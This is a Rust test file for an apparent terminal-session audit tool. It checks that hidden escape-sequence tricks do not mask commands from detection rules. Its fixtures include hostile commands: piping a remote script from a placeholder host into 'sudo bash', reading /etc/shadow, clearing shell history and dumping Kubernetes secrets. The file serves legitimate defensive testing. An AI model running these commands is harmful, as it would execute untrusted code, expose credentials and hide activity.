//! Sequences a real terminal shows as nothing change nothing: the commands and text are those
//! of the same session without them, and what tmux shows for the same bytes.
//!
//! The corpus: character-set tricks undone by DECRC, SI, `?1049l` or a second designation
//! (xterm, tmux and alacritty save the sets with the cursor, one slot a screen), titles,
//! colours, cursor save/restore pairs. Each is written where a program's output would be,
//! before a command that a rule looks for.

use proptest::prelude::*;
use ssm_audit_core::transcript::SizeChoice;

use crate::common::*;

/// Invisible on xterm, tmux and alacritty.
const TRICKS: &[&[u8]] = &[
    b"\x1b7\x1b(0\x1b8",
    b"\x1b[s\x1b(0\x1b[u",
    b"\x1b(0\x1b(B",
    b"\x1b)0\x0e\x0f",
    b"\x1b)0\x1b7\x0e\x1b8",
    b"\x1b*0\x1bn\x1b7\x1b8\x0f",
    b"\x1b[?1049h\x1b(0\x1b[?1049l",
    b"\x1b[?1049h\x1b7\x1b(0\x1b8\x1b(0\x1b[?1049l",
    b"\x1b]0;innocent title\x07",
    b"\x1b[31m\x1b[0m",
    b"\x1b7\x1b[10;10H\x1b8",
    b"\x1b[?1048h\x1b(0\x1b[?1048l",
];

const COMMANDS: [&str; 3] = [
    "curl -s http://example.invalid/x.sh | sudo bash",
    "cat /etc/shadow",
    "history -c",
];

/// A bash 5 session (bracketed paste marks each command) with `tricks[i]` written at the end
/// of command i's output.
fn session(tricks: &[&[u8]]) -> Vec<u8> {
    let mut b = Vec::new();
    for (i, c) in COMMANDS.iter().enumerate() {
        b.extend_from_slice(b"\x1b[?2004hroot@vm:~# ");
        b.extend_from_slice(c.as_bytes());
        b.extend_from_slice(b"\r\n\x1b[?2004l\r");
        b.extend_from_slice(format!("output of {i}\r\n").as_bytes());
        if let Some(t) = tricks.get(i) {
            b.extend_from_slice(t);
        }
    }
    b.extend_from_slice(b"\x1b[?2004hroot@vm:~# ");
    b
}

fn rendered(bytes: &[u8]) -> (Vec<String>, Vec<String>) {
    let size = SizeChoice {
        cols: Some(80),
        rows: Some(24),
    };
    let (r, sink) = render_bytes(bytes, size);
    let cmds = texts(&r.summary.commands)
        .into_iter()
        .map(str::to_owned)
        .collect();
    (cmds, sink.lines)
}

#[test]
fn every_invisible_trick_leaves_commands_and_text_alone() {
    let plain = rendered(&session(&[]));
    assert_eq!(plain.0, COMMANDS);
    for t in TRICKS {
        let got = rendered(&session(&[t, t, t]));
        assert_eq!(
            got,
            plain,
            "after {}",
            String::from_utf8_lossy(t).escape_debug()
        );
    }
}

#[test]
fn a_charset_switched_and_left_so_draws_lines_as_terminals_do() {
    // not a trick: `ESC ( 0` left on draws line-drawing characters, as every terminal does
    let (_, lines) = rendered(b"\x1b(0lqqk\r\nx  x\r\nmqqj\x1b(B ok\r\n");
    assert_eq!(lines, ["┌──┐", "│  │", "└──┘ ok"]);
    // the full DEC special graphics table, `_` to `~`
    let (_, lines) = rendered(b"\x1b(0_`abcdefghijklmnopqrstuvwxyz{|}~\x1b(B\r\n");
    assert_eq!(lines, [" ◆▒␉␌␍␊°±␤␋┘┐┌└┼⎺⎻─⎼⎽├┤┴┬│≤≥π≠£·"]);
    // SO shifts G1 in, SI G0 back; SS2 takes G2 for one character
    let (_, lines) = rendered(b"\x1b)0a\x0eq\x0fq\x1b*0\x1bNqq\r\n");
    assert_eq!(lines, ["a─q─q"]);
}

#[test]
fn each_screen_has_its_own_saved_cursor() {
    // saved on the main screen; the alternate screen (`?47`, which saves nothing itself)
    // saves and restores its own, and the main screen's slot is as it was
    let (_, lines) =
        rendered(b"ab\x1b7\r\n\x1b[?47h\x1b[5;5H\x1b7\x1b[1;1Hx\x1b8y\x1b[?47l\x1b8Z\r\n");
    assert_eq!(lines.first().map(String::as_str), Some("abZ"));
}

#[test]
fn tmux_shows_the_same_for_every_trick() {
    let dir = tempfile::tempdir().unwrap();
    for (i, t) in TRICKS.iter().enumerate() {
        let bytes = session(&[t, t, t]);
        let f = dir.path().join(format!("trick{i}"));
        std::fs::write(&f, &bytes).unwrap();
        let theirs = crate::oracle::tmux_capture(&f, 80, 24);
        let (_, ours) = rendered(&bytes);
        assert!(
            ours.ends_with(&theirs),
            "trick {}: ours {ours:?}, tmux {theirs:?}",
            String::from_utf8_lossy(t).escape_debug()
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// Any mix of tricks, anywhere between commands, changes nothing.
    #[test]
    fn any_mix_of_tricks_changes_nothing(
        picks in proptest::collection::vec(
            proptest::collection::vec(0..TRICKS.len(), 0..4), 3)
    ) {
        let joined: Vec<Vec<u8>> = picks
            .iter()
            .map(|p| p.iter().flat_map(|&i| TRICKS[i].iter().copied()).collect())
            .collect();
        let refs: Vec<&[u8]> = joined.iter().map(Vec::as_slice).collect();
        prop_assert_eq!(rendered(&session(&refs)), rendered(&session(&[])));
    }
}

#[test]
fn a_prompt_redrawn_after_a_resize_leaves_long_commands_whole() {
    // bash 5 on a window resized twice: `PROMPT \r ESC[K PROMPT` each time, then a command
    // longer than the prompt (the width was once taken for the prompt's length minus one)
    let cmd = "kubectl get secrets -n prod -o yaml > /tmp/s.yaml";
    for prompt in ["ubuntu@ip-172-31-1-1:~$ ", "[ec2-user@ip-10-0-0-5 ~]$ "] {
        let mut b = Vec::new();
        b.extend_from_slice(b"\x1b[?2004h");
        for _ in 0..2 {
            b.extend_from_slice(prompt.as_bytes());
            b.extend_from_slice(b"\r\x1b[K");
        }
        b.extend_from_slice(prompt.as_bytes());
        b.extend_from_slice(cmd.as_bytes());
        b.extend_from_slice(b"\r\n\x1b[?2004l\r\x1b[?2004h");
        b.extend_from_slice(prompt.as_bytes());
        let (r, sink) = render_bytes(&b, SizeChoice::default());
        assert_eq!(texts(&r.summary.commands), [cmd], "{prompt}");
        assert_eq!(sink.lines[0], format!("{prompt}{cmd}"));
    }
}
